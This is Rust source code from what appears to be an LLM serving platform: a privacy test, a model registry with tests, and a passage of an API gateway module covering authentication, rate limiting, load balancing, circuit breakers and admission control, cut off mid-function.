        let app = WebApp::start(vec![]).unwrap();
        for path in [
            "/conversations",
            "/api/conversations",
            "/history",
            "/chat/save",
            "/app/conversations/1",
        ] {
            let r = http::get(&format!("{}{path}", app.url())).unwrap();
            assert_eq!(r.status, 404, "{path} must not exist (privacy §6.2)");
            let r = http::request("POST", &format!("{}{path}", app.url()), &[], b"{}").unwrap();
            assert_eq!(r.status, 404, "POST {path} must not exist");
        }
    }
}
