//! Model registry: the dynamic model → route resolution behind the
//! gateway's model-addressable API.
//!
//! The paper's deployment pins one URL path per model
//! (`/v1/m/<model>/…`), which makes adding a model a gateway config
//! change. The registry inverts that: clients POST to the single
//! `/v1/chat/completions` endpoint and name the model in the request
//! body, OpenAI-style; the gateway resolves the name here and forwards
//! through the named route. `GET /v1/models` lists the fleet with live
//! replica-group state, so clients can discover what is served — and
//! whether a request will be answered warm, after a cold start, or only
//! after waking a scaled-to-zero group.
//!
//! Status is pulled, not pushed: each entry carries a closure the stack
//! wires to the scheduler's routing table, so the listing always reflects
//! the replica groups as they are *now*, with no cache to invalidate.

use std::sync::{Arc, Mutex};

use crate::util::json::Json;

/// Point-in-time status of one model's replica group.
#[derive(Debug, Clone, Copy)]
pub struct ModelStatus {
    /// Replicas past their readiness probe (serving now).
    pub ready: usize,
    /// Replicas that exist, ready or still weight-loading.
    pub total: usize,
    /// The group may idle at zero replicas (`min_instances == 0`): the
    /// first request wakes it and pays the weight-load cold start.
    pub scale_from_zero: bool,
}

impl ModelStatus {
    /// State label for `GET /v1/models`: `ready` (≥1 replica answers
    /// immediately), `cold` (replicas exist but none finished loading —
    /// requests queue behind the weight load), or `scale_from_zero` (no
    /// replicas at all; the first request starts one).
    pub fn state(&self) -> &'static str {
        if self.ready > 0 {
            "ready"
        } else if self.total > 0 || !self.scale_from_zero {
            "cold"
        } else {
            "scale_from_zero"
        }
    }
}

type StatusFn = Arc<dyn Fn() -> ModelStatus + Send + Sync>;

/// One addressable model.
struct ModelEntry {
    name: String,
    /// Gateway route (by name) this model's requests forward through.
    route: String,
    status: StatusFn,
}

/// The model name → route table. Shared by the gateway (resolution and
/// listing) and the stack assembly (registration); registration order is
/// listing order.
#[derive(Default)]
pub struct ModelRegistry {
    models: Mutex<Vec<ModelEntry>>,
}

impl ModelRegistry {
    pub fn new() -> Arc<ModelRegistry> {
        Arc::new(ModelRegistry::default())
    }

    /// Register a model (replacing any previous entry of the same name):
    /// requests naming `name` forward through the route named `route`,
    /// and `status` is polled for the `/v1/models` listing.
    pub fn register(
        &self,
        name: &str,
        route: &str,
        status: impl Fn() -> ModelStatus + Send + Sync + 'static,
    ) {
        let mut models = self.models.lock().unwrap();
        models.retain(|e| e.name != name);
        models.push(ModelEntry {
            name: name.into(),
            route: route.into(),
            status: Arc::new(status),
        });
    }

    /// Resolve a request-body `model` to its route name. `None` = unknown
    /// model (the gateway answers a structured 404).
    pub fn resolve(&self, model: &str) -> Option<String> {
        self.models
            .lock()
            .unwrap()
            .iter()
            .find(|e| e.name == model)
            .map(|e| e.route.clone())
    }

    /// Registered model names, in registration order.
    pub fn names(&self) -> Vec<String> {
        self.models.lock().unwrap().iter().map(|e| e.name.clone()).collect()
    }

    /// The `GET /v1/models` body: an OpenAI-style list, each entry
    /// annotated with live replica-group state.
    pub fn list(&self) -> Json {
        let data: Vec<Json> = self
            .models
            .lock()
            .unwrap()
            .iter()
            .map(|e| {
                let st = (e.status)();
                Json::obj()
                    .set("id", e.name.as_str())
                    .set("object", "model")
                    .set("state", st.state())
                    .set("ready", st.ready)
                    .set("total", st.total)
                    .set("scale_from_zero", st.scale_from_zero)
            })
            .collect();
        Json::obj().set("object", "list").set("data", data)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn state_labels_cover_the_lifecycle() {
        let s = |ready, total, sfz| ModelStatus { ready, total, scale_from_zero: sfz };
        assert_eq!(s(2, 3, false).state(), "ready");
        assert_eq!(s(0, 2, false).state(), "cold", "booting replicas are cold");
        assert_eq!(s(0, 0, true).state(), "scale_from_zero");
        // min_instances > 0 with no replicas yet: the scheduler is about
        // to start one — that is a cold start, not scale-from-zero.
        assert_eq!(s(0, 0, false).state(), "cold");
    }

    #[test]
    fn resolve_and_replace() {
        let reg = ModelRegistry::new();
        assert_eq!(reg.resolve("m"), None);
        reg.register("m", "route-a", || ModelStatus {
            ready: 0,
            total: 0,
            scale_from_zero: true,
        });
        assert_eq!(reg.resolve("m").as_deref(), Some("route-a"));
        // Re-registration replaces, not duplicates.
        reg.register("m", "route-b", || ModelStatus {
            ready: 1,
            total: 1,
            scale_from_zero: false,
        });
        assert_eq!(reg.resolve("m").as_deref(), Some("route-b"));
        assert_eq!(reg.names(), vec!["m".to_string()]);
    }

    #[test]
    fn listing_polls_live_status() {
        use std::sync::atomic::{AtomicUsize, Ordering};
        let reg = ModelRegistry::new();
        let ready = Arc::new(AtomicUsize::new(0));
        let r2 = ready.clone();
        reg.register("m", "m", move || ModelStatus {
            ready: r2.load(Ordering::SeqCst),
            total: 1,
            scale_from_zero: false,
        });
        let state_of = |j: &Json| {
            j.at(&["data", "0", "state"]).unwrap().as_str().unwrap().to_string()
        };
        assert_eq!(state_of(&reg.list()), "cold");
        ready.store(1, Ordering::SeqCst);
        assert_eq!(state_of(&reg.list()), "ready", "listing must not cache status");
    }
}
