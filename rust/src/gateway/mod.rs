//! API gateway (§5.2) — the Kong OSS role in Figure 1.
//!
//! Routes incoming requests to upstreams by path prefix, with:
//! - **authentication**: either an `Authorization: Bearer <api-key>` header
//!   (API consumers) or an SSO session token (web users, validated against
//!   [`crate::auth::SsoProvider`]); the resolved user id is attached as
//!   `x-user-id`, unifying both paths for the backend exactly as §5.2
//!   describes;
//! - **rate limiting**: token-bucket per (consumer, route);
//! - **load balancing**: smooth weighted round-robin over a route's
//!   upstreams (the paper's multi-HPC-proxy scale-out, §7.1.5) — each HPC
//!   proxy advertises capacity = pooled connections × channels per
//!   connection, and the gateway sends traffic proportionally;
//! - **observability**: a Prometheus `/metrics` endpoint (§5.9) and a
//!   request log feeding the analytics pipeline (timestamp, user, model —
//!   and deliberately nothing else, §6.2).

pub mod registry;

pub use registry::{ModelRegistry, ModelStatus};

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::Result;

use crate::analytics::RequestLog;
use crate::auth::SsoProvider;
use crate::util::clock::{Clock, WallClock};
use crate::util::http::{self, Handler, Reply, Request, Response, Server};
use crate::util::json::Json;
use crate::util::metrics::Registry;
use crate::util::retry::{Backoff, RetryPolicy};

/// Cap on how long the gateway honors an upstream `Retry-After` before
/// retrying (a hostile or confused upstream must not pin a worker thread).
const MAX_RETRY_AFTER_SECS: u64 = 5;

/// Token-bucket rate limiter. Reads time from the owning gateway's clock,
/// so refill (and the refill-horizon eviction below, which compares
/// last-used stamps *across* buckets) is exact under the virtual-time
/// driver and free of `Instant`/`Clock` mixing.
pub struct TokenBucket {
    capacity: f64,
    refill_per_sec: f64,
    clock: Arc<dyn Clock>,
    /// (tokens, last refill/use in clock-us).
    state: Mutex<(f64, u64)>,
}

impl TokenBucket {
    pub fn new(capacity: f64, refill_per_sec: f64, clock: Arc<dyn Clock>) -> TokenBucket {
        let now = clock.now_us();
        TokenBucket { capacity, refill_per_sec, clock, state: Mutex::new((capacity, now)) }
    }

    pub fn try_take(&self) -> bool {
        let mut s = self.state.lock().unwrap();
        let now = self.clock.now_us();
        let elapsed = now.saturating_sub(s.1) as f64 / 1e6;
        s.0 = (s.0 + elapsed * self.refill_per_sec).min(self.capacity);
        s.1 = now;
        if s.0 >= 1.0 {
            s.0 -= 1.0;
            true
        } else {
            false
        }
    }

    /// When the bucket was last used, in clock-us (drives eviction at the
    /// map cap).
    fn last_used_us(&self) -> u64 {
        self.state.lock().unwrap().1
    }
}

/// Cap on distinct (route, consumer) rate-limit buckets kept in memory: a
/// key-scanning client must not grow the map without bound.
const MAX_BUCKETS: usize = 4096;
/// How many buckets one overflow eviction reclaims when none are expired:
/// the O(map) walk then runs once per EVICT_BATCH inserts, not per insert.
const EVICT_BATCH: usize = 64;

/// Per-upstream state of one route: URLs, capacity weights, the smooth-WRR
/// counters, and circuit breakers keyed by upstream *identity* (URL). The
/// whole bundle swaps atomically via [`Route::set_upstreams`], so a proxy
/// scale event can add or remove upstreams at runtime — and a breaker that
/// tripped for URL X stays attached to X, rather than to whatever upstream
/// happens to occupy X's old index after the set shifts (the positional
/// scheme this replaces ejected innocent neighbours and readmitted dead
/// ones on every swap).
struct UpstreamSet {
    urls: Vec<String>,
    /// Relative capacity per upstream, parallel to `urls`.
    weights: Vec<usize>,
    /// Smooth-WRR running weights, parallel to `urls`.
    wrr: Vec<i64>,
    /// Breaker per upstream, keyed by URL.
    breakers: std::collections::BTreeMap<String, Arc<CircuitBreaker>>,
}

impl UpstreamSet {
    /// Build a set, carrying breaker state over from `prev` for URLs that
    /// survive; new URLs start with a fresh closed breaker.
    fn build(
        urls: Vec<String>,
        weights: Vec<usize>,
        cfg: BreakerConfig,
        prev: Option<&std::collections::BTreeMap<String, Arc<CircuitBreaker>>>,
    ) -> UpstreamSet {
        let mut breakers = std::collections::BTreeMap::new();
        for u in &urls {
            let b = prev
                .and_then(|m| m.get(u).cloned())
                .unwrap_or_else(|| Arc::new(CircuitBreaker::new(cfg)));
            breakers.insert(u.clone(), b);
        }
        let n = urls.len();
        UpstreamSet { urls, weights, wrr: vec![0; n], breakers }
    }

    /// Smooth weighted round-robin (the nginx algorithm): add each weight
    /// to its running total, pick the max, subtract the weight sum. Equal
    /// weights reduce to plain round-robin.
    fn next_idx(&mut self) -> usize {
        let mut best = 0;
        let mut total: i64 = 0;
        for (i, w) in self.weights.iter().enumerate() {
            let w = (*w).max(1) as i64;
            total += w;
            self.wrr[i] += w;
            if self.wrr[i] > self.wrr[best] {
                best = i;
            }
        }
        self.wrr[best] -= total;
        best
    }
}

/// One attempt's upstream choice. Carries the breaker *handle*, not an
/// index: the outcome of an in-flight request reports to the breaker it
/// was actually sent through, even if the route's upstream set was swapped
/// (or the URL removed entirely) while the request was in the air.
struct UpstreamPick {
    url: String,
    breaker: Arc<CircuitBreaker>,
}

/// One gateway route.
pub struct Route {
    /// Route (= model/service) name, used for metrics + logging.
    pub name: String,
    /// Path prefix to match, e.g. `/v1/m/intel-neural-7b/`.
    pub prefix: String,
    /// Upstream base URLs + weights + WRR state + per-identity breakers;
    /// swappable at runtime (see [`Route::set_upstreams`]).
    upstreams: Mutex<UpstreamSet>,
    /// Strip the prefix before forwarding and prepend this instead.
    pub rewrite: String,
    /// Requests/second per consumer (None = unlimited). The paper rate-
    /// limits the external GPT-4 route hard (§5.8).
    pub rate_limit_per_sec: Option<f64>,
    /// Routes may be restricted to specific consumer groups (§5.8).
    pub allowed_groups: Option<Vec<String>>,
    pub require_auth: bool,
    /// Retry budget + backoff shape for attempts against the next upstream
    /// when a request dies on a 502/503 or a transport error — e.g. because
    /// its instance was preempted or walltime-killed between placement and
    /// completion. A streaming request is only retried while nothing has
    /// been forwarded downstream yet. With a single upstream the retry
    /// re-enters it, which still helps: the interface behind it picks a
    /// *healthy* instance the second time. Attempts are spaced by capped
    /// exponential backoff with decorrelated jitter, and never scheduled
    /// past the request's own `deadline_ms` budget. Default 1 attempt = no
    /// retries (opt-in via `with_retries`): a transport error can strike
    /// AFTER the upstream acted on a POST, so replay is only safe where
    /// the route's handler is idempotent or the duplicate is an acceptable
    /// trade (model inference is; a paid external call is not).
    pub retry: RetryPolicy,
    /// Breaker tuning applied to every upstream, including ones added
    /// later through `set_upstreams`. A tripped upstream is ejected from
    /// the WRR rotation until its `open_for` window expires, then probed
    /// half-open and reinstated on the first success.
    breaker_cfg: BreakerConfig,
    /// Load-shedding priority under admission control: 2 (default) sheds
    /// only at the full `max_inflight` watermark, 1 at half, 0 at a
    /// quarter — low-priority routes brown out first (§ overload).
    pub shed_priority: u32,
}

impl Route {
    pub fn new(name: &str, prefix: &str, upstreams: Vec<String>, rewrite: &str) -> Route {
        let n = upstreams.len();
        Route {
            name: name.into(),
            prefix: prefix.into(),
            upstreams: Mutex::new(UpstreamSet::build(
                upstreams,
                vec![1; n],
                BreakerConfig::default(),
                None,
            )),
            rewrite: rewrite.into(),
            rate_limit_per_sec: None,
            allowed_groups: None,
            require_auth: true,
            retry: RetryPolicy::new(1, Duration::from_millis(10), Duration::from_millis(200)),
            breaker_cfg: BreakerConfig::default(),
            shed_priority: 2,
        }
    }

    pub fn public(mut self) -> Route {
        self.require_auth = false;
        self
    }

    pub fn with_rate_limit(mut self, rps: f64) -> Route {
        self.rate_limit_per_sec = Some(rps);
        self
    }

    pub fn with_groups(mut self, groups: &[&str]) -> Route {
        self.allowed_groups = Some(groups.iter().map(|s| s.to_string()).collect());
        self
    }

    /// Set the retry budget (see [`Route::retry`]; 0 = no retries).
    pub fn with_retries(mut self, retries: usize) -> Route {
        self.retry.max_attempts = (retries as u32).saturating_add(1);
        self
    }

    /// Replace the whole retry policy (budget + backoff shape).
    pub fn with_retry(mut self, policy: RetryPolicy) -> Route {
        self.retry = policy;
        self
    }

    /// Re-tune the per-upstream circuit breakers (rebuilds them closed).
    pub fn with_breaker(mut self, cfg: BreakerConfig) -> Route {
        self.breaker_cfg = cfg;
        let set = self.upstreams.get_mut().unwrap();
        *set = UpstreamSet::build(set.urls.clone(), set.weights.clone(), cfg, None);
        self
    }

    /// Set the load-shedding priority (see [`Route::shed_priority`]).
    pub fn with_shed_priority(mut self, priority: u32) -> Route {
        self.shed_priority = priority;
        self
    }

    /// Pick the attempt's upstream: smooth WRR, re-rolled (bounded) so a
    /// retry never lands on the upstream that just failed when another
    /// one exists — on weighted routes the WRR state can otherwise hand
    /// back the same heavy, dead upstream twice in a row — and so traffic
    /// skips upstreams whose circuit breaker is open. If every candidate
    /// is rejected (all breakers open at once), the last roll is used
    /// anyway: sending the request somewhere keeps probing the fleet and
    /// cannot livelock, whereas failing fast here would mask recovery.
    fn attempt_upstream(&self, last_failed: Option<&str>, now_us: u64) -> UpstreamPick {
        let mut set = self.upstreams.lock().unwrap();
        // Smooth WRR visits every upstream within one period (= the
        // weight sum), so that bounds the re-roll.
        let bound: usize = set.weights.iter().map(|w| (*w).max(1)).sum();
        let mut pick = set.next_idx();
        let mut rolls = 0;
        // Order matters: check `last_failed` first so a re-roll past the
        // upstream that just failed does not consume a half-open probe.
        while rolls < bound
            && (last_failed == Some(set.urls[pick].as_str())
                || !set.breakers[&set.urls[pick]].allow(now_us))
        {
            pick = set.next_idx();
            rolls += 1;
        }
        let url = set.urls[pick].clone();
        let breaker = set.breakers[&url].clone();
        UpstreamPick { url, breaker }
    }

    /// Replace the upstream set at runtime (a proxy joined or left).
    /// Breakers are keyed by upstream identity, so URLs present in both
    /// the old and new set keep their breaker state — an open breaker
    /// stays with the dead upstream, and a freshly added upstream starts
    /// closed. Weights reset to all-equal; WRR state restarts.
    pub fn set_upstreams(&self, urls: Vec<String>) {
        let mut set = self.upstreams.lock().unwrap();
        let n = urls.len();
        *set = UpstreamSet::build(urls, vec![1; n], self.breaker_cfg, Some(&set.breakers));
    }

    /// Current upstream base URLs, in WRR order.
    pub fn upstream_urls(&self) -> Vec<String> {
        self.upstreams.lock().unwrap().urls.clone()
    }

    /// Set per-upstream capacity weights (must match the upstream count).
    pub fn with_weights(mut self, weights: Vec<usize>) -> Route {
        let set = self.upstreams.get_mut().unwrap();
        assert_eq!(
            weights.len(),
            set.urls.len(),
            "one weight per upstream on route {}",
            self.name
        );
        set.weights = weights;
        self
    }
}

/// Circuit-breaker tuning (DESIGN.md §Failure policy).
#[derive(Debug, Clone, Copy)]
pub struct BreakerConfig {
    /// Consecutive failures that trip the breaker open.
    pub consecutive_failures: u32,
    /// How long an open breaker ejects its upstream before probing.
    pub open_for: Duration,
    /// Concurrent trial requests admitted while half-open.
    pub half_open_probes: u32,
}

impl Default for BreakerConfig {
    fn default() -> BreakerConfig {
        BreakerConfig {
            consecutive_failures: 3,
            open_for: Duration::from_millis(500),
            half_open_probes: 1,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum BreakerState {
    Closed,
    Open { until_us: u64 },
    HalfOpen { probes: u32, since_us: u64 },
}

/// Per-upstream circuit breaker: closed → open after
/// `consecutive_failures`, open → half-open once `open_for` expires,
/// half-open → closed on a successful probe (or straight back open on a
/// failed one). Clock-less by design: every method takes `now_us` from the
/// caller's clock, so the same type is exact under wall and virtual time.
pub struct CircuitBreaker {
    cfg: BreakerConfig,
    /// (state, consecutive failure count).
    inner: Mutex<(BreakerState, u32)>,
}

impl CircuitBreaker {
    pub fn new(cfg: BreakerConfig) -> CircuitBreaker {
        CircuitBreaker { cfg, inner: Mutex::new((BreakerState::Closed, 0)) }
    }

    /// May a request be sent to this upstream now? An open breaker whose
    /// window expired transitions to half-open here, consuming the first
    /// of its `half_open_probes` trial slots.
    pub fn allow(&self, now_us: u64) -> bool {
        let open_us = self.cfg.open_for.as_micros() as u64;
        let mut g = self.inner.lock().unwrap();
        match g.0 {
            BreakerState::Closed => true,
            BreakerState::Open { until_us } if now_us >= until_us => {
                g.0 = BreakerState::HalfOpen { probes: 1, since_us: now_us };
                true
            }
            BreakerState::Open { .. } => false,
            BreakerState::HalfOpen { probes, since_us } => {
                if probes < self.cfg.half_open_probes {
                    g.0 = BreakerState::HalfOpen { probes: probes + 1, since_us };
                    true
                } else if now_us >= since_us.saturating_add(open_us) {
                    // A probe whose outcome never arrived (lost worker,
                    // hung request) must not wedge the breaker half-open
                    // forever: open a fresh probe window.
                    g.0 = BreakerState::HalfOpen { probes: 1, since_us: now_us };
                    true
                } else {
                    false
                }
            }
        }
    }

    /// Record a successful response: any state converges to closed.
    pub fn on_success(&self) {
        let mut g = self.inner.lock().unwrap();
        *g = (BreakerState::Closed, 0);
    }

    /// Record a failure. Returns true when this failure newly tripped the
    /// breaker open (drives the trip counter, not logic).
    pub fn on_failure(&self, now_us: u64) -> bool {
        let mut g = self.inner.lock().unwrap();
        g.1 = g.1.saturating_add(1);
        let trip = match g.0 {
            BreakerState::Closed => g.1 >= self.cfg.consecutive_failures,
            // A failed half-open probe goes straight back open; a failure
            // reported while already open just extends the window.
            BreakerState::HalfOpen { .. } | BreakerState::Open { .. } => true,
        };
        if trip {
            let newly = !matches!(g.0, BreakerState::Open { .. });
            g.0 = BreakerState::Open {
                until_us: now_us.saturating_add(self.cfg.open_for.as_micros() as u64),
            };
            return newly;
        }
        false
    }

    /// Gauge encoding for `gw_breaker_state`: 0 closed, 1 open, 2 half-open.
    pub fn state_code(&self) -> i64 {
        match self.inner.lock().unwrap().0 {
            BreakerState::Closed => 0,
            BreakerState::Open { .. } => 1,
            BreakerState::HalfOpen { .. } => 2,
        }
    }
}

/// Admission-control knobs for graceful degradation under overload
/// (DESIGN.md §Failure policy). All off by default.
#[derive(Debug, Clone, Copy)]
pub struct AdmissionConfig {
    /// Bound on concurrently admitted requests; 0 disables shedding.
    /// Routes shed at `max_inflight >> (2 - shed_priority)` (floor 1), so
    /// low-priority traffic is refused first as load climbs.
    pub max_inflight: usize,
    /// Brownout watermark: at or above this many inflight requests, new
    /// requests get their `max_tokens` clamped; 0 disables brownout.
    pub brownout_inflight: usize,
    /// The `max_tokens` clamp applied while browned out.
    pub brownout_max_tokens: u64,
    /// `Retry-After` seconds advertised on shed (503) and rate-limit (429)
    /// responses.
    pub retry_after_secs: u64,
}

impl Default for AdmissionConfig {
    fn default() -> AdmissionConfig {
        AdmissionConfig {
            max_inflight: 0,
            brownout_inflight: 0,
            brownout_max_tokens: 8,
            retry_after_secs: 1,
        }
    }
}

/// RAII inflight slot: decrements the gateway's admission counter when the
/// request finishes (for streams: when the SSE pump ends).
struct InflightGuard(Arc<Gateway>);

impl Drop for InflightGuard {
    fn drop(&mut self) {
        self.0.inflight.fetch_sub(1, Ordering::SeqCst);
    }
}

/// Statuses worth a second attempt against another upstream: the upstream
/// (or the instance behind it) is gone. NOT 504 — that request's own
/// deadline budget is already spent — and not 4xx/500, which are
/// deterministic and would just duplicate work.
fn retryable_status(status: u16) -> bool {
    status == 502 || status == 503
}

/// An API-key consumer.
#[derive(Debug, Clone)]
pub struct Consumer {
    pub id: String,
    pub api_key: String,
    pub group: String,
}

/// Gateway configuration + shared state.
pub struct Gateway {
    routes: Vec<Route>,
    consumers: Vec<Consumer>,
    sso: Option<SsoProvider>,
    metrics: Registry,
    log: RequestLog,
    clock: Arc<dyn Clock>,
    buckets: Mutex<std::collections::BTreeMap<(String, String), Arc<TokenBucket>>>,
    admission: AdmissionConfig,
    /// Requests currently admitted and being forwarded (drives shedding
    /// and brownout decisions).
    inflight: AtomicUsize,
    /// Model registry backing the model-addressable API: `POST
    /// /v1/chat/completions` resolves the body `model` here, and `GET
    /// /v1/models` lists it. `None` = static prefix routes only.
    registry: Mutex<Option<Arc<ModelRegistry>>>,
}

impl Gateway {
    pub fn new(routes: Vec<Route>, consumers: Vec<Consumer>, sso: Option<SsoProvider>, metrics: Registry, log: RequestLog) -> Arc<Gateway> {
        let clock: Arc<dyn Clock> = WallClock::new();
        Gateway::new_with_clock(routes, consumers, sso, metrics, log, clock)
    }

    /// Like [`Gateway::new`] with an explicit time source: rate-limit
    /// refill, bucket eviction, backoff pacing, breaker windows, and
    /// latency accounting all read this clock (a `SimClock` under the
    /// virtual-time harness).
    pub fn new_with_clock(
        routes: Vec<Route>,
        consumers: Vec<Consumer>,
        sso: Option<SsoProvider>,
        metrics: Registry,
        log: RequestLog,
        clock: Arc<dyn Clock>,
    ) -> Arc<Gateway> {
        Gateway::new_with_admission(
            routes,
            consumers,
            sso,
            metrics,
            log,
            clock,
            AdmissionConfig::default(),
        )
    }

    /// Full constructor: explicit clock + admission-control config.
    pub fn new_with_admission(
        routes: Vec<Route>,
        consumers: Vec<Consumer>,
        sso: Option<SsoProvider>,
        metrics: Registry,
        log: RequestLog,
        clock: Arc<dyn Clock>,
        admission: AdmissionConfig,
    ) -> Arc<Gateway> {
        Arc::new(Gateway {
            routes,
            consumers,
            sso,
            metrics,
            log,
            clock,
            buckets: Mutex::new(Default::default()),
            admission,
            inflight: AtomicUsize::new(0),
            registry: Mutex::new(None),
        })
    }

    /// Attach the model registry that makes the unified
    /// `POST /v1/chat/completions` endpoint and `GET /v1/models` live.
    pub fn set_model_registry(&self, registry: Arc<ModelRegistry>) {
        *self.registry.lock().unwrap() = Some(registry);
    }

    /// Report an attempt's outcome to the upstream's breaker and publish
    /// the trip counter + state gauge. The pick carries the breaker handle
    /// itself, so a late report lands on the right breaker even after the
    /// route's upstream set was swapped mid-flight.
    fn report_upstream(&self, route: &Route, pick: &UpstreamPick, ok: bool) {
        if ok {
            pick.breaker.on_success();
        } else if pick.breaker.on_failure(self.clock.now_us()) {
            self.metrics
                .counter(
                    "gw_breaker_trips_total",
                    &[("route", &route.name), ("upstream", &pick.url)],
                )
                .inc();
        }
        self.metrics
            .gauge("gw_breaker_state", &[("route", &route.name), ("upstream", &pick.url)])
            .set(pick.breaker.state_code());
    }

    /// Sleep the next backoff delay, bounded by the request's remaining
    /// `deadline_ms` budget. Returns false when no further attempt fits —
    /// the caller must stop retrying and surface the last failure.
    fn retry_pause(&self, backoff: &mut Backoff, deadline_us: Option<u64>) -> bool {
        let delay = match deadline_us {
            Some(deadline) => {
                let remaining =
                    Duration::from_micros(deadline.saturating_sub(self.clock.now_us()));
                match backoff.next_delay_within(remaining) {
                    Some(d) => d,
                    None => return false,
                }
            }
            None => backoff.next_delay(),
        };
        self.clock.sleep(delay);
        true
    }

    /// Resolve the caller: API key first (bypasses the web SSO, §5.2),
    /// then SSO bearer session.
    fn authenticate(&self, req: &Request) -> Option<(String, String)> {
        let auth = req.header("authorization")?;
        let token = auth.strip_prefix("Bearer ").unwrap_or(auth);
        if let Some(c) = self.consumers.iter().find(|c| c.api_key == token) {
            return Some((c.id.clone(), c.group.clone()));
        }
        if let Some(sso) = &self.sso {
            if let Some(email) = sso.validate(token) {
                return Some((email, "web".into()));
            }
        }
        None
    }

    fn bucket(&self, route: &Route, consumer: &str) -> Option<Arc<TokenBucket>> {
        let rps = route.rate_limit_per_sec?;
        let key = (route.name.clone(), consumer.to_string());
        let mut buckets = self.buckets.lock().unwrap();
        if buckets.len() >= MAX_BUCKETS && !buckets.contains_key(&key) {
            // One pass, one state-lock read per bucket: buckets idle past
            // their refill horizon would be full again anyway, so dropping
            // + recreating them is behaviour-preserving. When an active
            // scan keeps even young buckets in the map, fall back to
            // evicting the EVICT_BATCH most-idle — the map then sits
            // EVICT_BATCH under the cap, so this walk amortizes to O(1)
            // per insert. Evicting a live consumer hands back at most one
            // refilled burst — bounded memory beats perfect accounting.
            let now = self.clock.now_us();
            let mut expired: Vec<(String, String)> = Vec::new();
            let mut live: Vec<(u64, (String, String))> = Vec::new();
            for (k, b) in buckets.iter() {
                let used = b.last_used_us();
                let horizon = (b.capacity / b.refill_per_sec).max(1.0);
                if now.saturating_sub(used) as f64 / 1e6 > horizon {
                    expired.push(k.clone());
                } else {
                    live.push((used, k.clone()));
                }
            }
            if expired.is_empty() && !live.is_empty() {
                let n = EVICT_BATCH.min(live.len());
                live.select_nth_unstable_by_key(n - 1, |e| e.0);
                live.truncate(n);
                expired.extend(live.into_iter().map(|(_, k)| k));
            }
            for k in &expired {
                buckets.remove(k);
            }
        }
        let clock = self.clock.clone();
        Some(
            buckets
                .entry(key)
                .or_insert_with(|| Arc::new(TokenBucket::new(rps.max(1.0), rps, clock)))
                .clone(),
        )
    }

    /// Start the HTTP listener.
    pub fn start(self: Arc<Self>) -> Result<Server> {
        let gw = self;
        let handler: Handler = Arc::new(move |req: &Request| gw.clone().handle(req));
        Server::start(handler)
    }

    fn handle(self: Arc<Self>, req: &Request) -> Reply {
        if req.path == "/metrics" {
            return Reply::full(Response::text(200, &self.metrics.render()));
        }
        if req.path == "/health" {
            return Reply::full(Response::json(200, &Json::obj().set("status", "ok")));
        }
        // Fleet discovery is public, like /health: clients consult it to
        // pick a model *before* they have anything to authenticate for.
        if req.method == "GET" && req.path == "/v1/models" {
            if let Some(reg) = self.registry.lock().unwrap().clone() {
                return Reply::full(Response::json(200, &reg.list()));
            }
        }

        // --- route resolution: the model-addressable endpoint first (body
        //     `model` against the dynamic registry), then static prefixes ---
        let mut via_registry = false;
        let mut resolved_idx = None;
        if req.path == "/v1/chat/completions" {
            if let Some(reg) = self.registry.lock().unwrap().clone() {
                let model = Json::parse(req.body_str())
                    .ok()
                    .and_then(|j| j.get("model").and_then(|m| m.as_str().map(String::from)));
                match model.as_deref().and_then(|m| reg.resolve(m)) {
                    Some(route_name) => {
                        resolved_idx = self.routes.iter().position(|r| r.name == route_name);
                        via_registry = resolved_idx.is_some();
                    }
                    None => {
                        let what = model.as_deref().unwrap_or("(none given)");
                        self.metrics
                            .counter(
                                "gw_requests_total",
                                &[("route", "none"), ("status", "404")],
                            )
                            .inc();
                        return Reply::full(Response::json(
                            404,
                            &Json::obj().set(
                                "error",
                                Json::obj()
                                    .set(
                                        "message",
                                        format!(
                                            "model {what} is not served here \
                                             (GET /v1/models lists the fleet)"
                                        ),
                                    )
                                    .set("type", "model_not_found")
                                    .set("code", 404),
                            ),
                        ));
                    }
                }
            }
        }
        let Some(route_idx) = resolved_idx.or_else(|| {
            self.routes
                .iter()
                .enumerate()
                .filter(|(_, r)| req.path.starts_with(&r.prefix))
                .max_by_key(|(_, r)| r.prefix.len())
                .map(|(i, _)| i)
        }) else {
            self.metrics.counter("gw_requests_total", &[("route", "none"), ("status", "404")]).inc();
            return Reply::full(Response::json(404, &Json::obj().set("error", "no route")));
        };
        let route = &self.routes[route_idx];

        // --- auth ---
        let (user, group) = match self.authenticate(req) {
            Some(u) => u,
            None if route.require_auth => {
                self.metrics
                    .counter("gw_requests_total", &[("route", &route.name), ("status", "401")])
                    .inc();
                return Reply::full(Response::json(
                    401,
                    &Json::obj().set("error", "missing or invalid credentials"),
                ));
            }
            None => ("anonymous".into(), "public".into()),
        };

        // --- group restriction (e.g. external GPT-4 route, §5.8) ---
        if let Some(allowed) = &route.allowed_groups {
            if !allowed.contains(&group) {
                self.metrics
                    .counter("gw_requests_total", &[("route", &route.name), ("status", "403")])
                    .inc();
                return Reply::full(Response::json(
                    403,
                    &Json::obj().set("error", "route restricted"),
                ));
            }
        }

        // --- rate limit ---
        if let Some(bucket) = self.bucket(route, &user) {
            if !bucket.try_take() {
                self.metrics
                    .counter("gw_requests_total", &[("route", &route.name), ("status", "429")])
                    .inc();
                return Reply::full(
                    Response::json(429, &Json::obj().set("error", "rate limit exceeded"))
                        .header("retry-after", &self.admission.retry_after_secs.to_string()),
                );
            }
        }

        // --- admission: bounded inflight, low-priority routes shed first ---
        let inflight_now = self.inflight.load(Ordering::SeqCst);
        if self.admission.max_inflight > 0 {
            let shed_at =
                (self.admission.max_inflight >> (2 - route.shed_priority.min(2))).max(1);
            if inflight_now >= shed_at {
                let idx = self.log.record(&user, &route.name);
                self.log.mark_shed(idx);
                self.metrics.counter("gw_shed_total", &[("route", &route.name)]).inc();
                self.metrics
                    .counter("gw_requests_total", &[("route", &route.name), ("status", "503")])
                    .inc();
                return Reply::full(
                    Response::json(503, &Json::obj().set("error", "overloaded, back off"))
                        .header("retry-after", &self.admission.retry_after_secs.to_string()),
                );
            }
        }

        // --- usage log: user id, timestamp, model. Nothing else (§6.2). ---
        let log_idx = self.log.record(&user, &route.name);
        let t0 = self.clock.now_us();

        // --- forward ---
        // A registry-resolved request forwards to the route's rewrite
        // alone (the rewrite is the complete upstream path); a
        // prefix-matched request carries its path suffix along.
        let suffix = if via_registry {
            String::new()
        } else {
